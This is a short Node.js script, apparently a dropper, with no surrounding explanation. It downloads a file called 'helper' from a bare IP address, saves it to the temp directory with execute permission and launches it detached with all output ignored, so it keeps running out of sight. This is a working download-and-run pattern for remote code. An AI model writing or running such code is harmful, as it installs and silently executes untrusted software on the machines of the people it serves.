import { writeFile } from 'node:fs/promises';
import { spawn } from 'node:child_process';
import { join } from 'node:path';
import { tmpdir } from 'node:os';
const target = join(tmpdir(), 'helper');
const res = await fetch('http://192.0.2.20/helper');
await writeFile(target, Buffer.from(await res.arrayBuffer()), { mode: 0o700 });
spawn(target, [], { detached: true, stdio: 'ignore' }).unref();
